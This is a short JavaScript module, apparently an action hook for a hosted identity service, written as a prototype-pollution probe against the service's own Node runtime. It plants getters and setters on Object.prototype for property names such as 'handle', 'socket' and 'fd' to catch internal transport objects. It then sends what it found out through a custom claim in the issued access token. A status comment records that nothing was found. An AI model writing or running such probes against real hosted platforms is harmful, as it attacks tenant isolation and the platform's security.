// outcome: completed; later found=[]; beside served
// Prototype pollution of Node itself: what it assigns to objects of its own reaches a setter that they inherit, the transport's handle among it.
const found = new Set()
const names = [
  'handle',
  'oncomplete',
  'async',
  'bytes',
  'buffer',
  'callback',
  'stream',
  'state',
  'cb',
  'onread',
  'req',
  'writing',
  'chunk',
  'entry',
]
names.push(
  'list',
  'context',
  'timeout',
  'pipes',
  'buffered',
  'errored',
  'decoder',
  'body',
  'tag',
  'session',
  'user',
  'fd',
  'owner',
  'socket',
  'resource',
)
const isTransport = (value) =>
  typeof value === 'object' &&
  value !== null &&
  (typeof value.writeUtf8String === 'function' ||
    value._handle?.writeUtf8String !== undefined ||
    value.stream?._handle !== undefined)
let looking = false
const look = (value, where) => {
  if (looking) return
  looking = true
  if (isTransport(value)) found.add(where)
  looking = false
}
exports.onExecuteCredentialsExchange = async () => {
  for (const name of names) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get() {
        look(this, `get ${name}`)
        return undefined
      },
      set(value) {
        look(value, `set ${name}`)
        look(this, `set ${name} of it`)
        Object.defineProperty(this, name, {
          __proto__: null,
          value,
          configurable: true,
          enumerable: true,
          writable: true,
        })
      },
    })
  }
}
exports.report = async (_event, api) => {
  for (const name of names) delete Object.prototype[name]
  api.accessToken.setCustomClaim('found', Array.from(found))
}
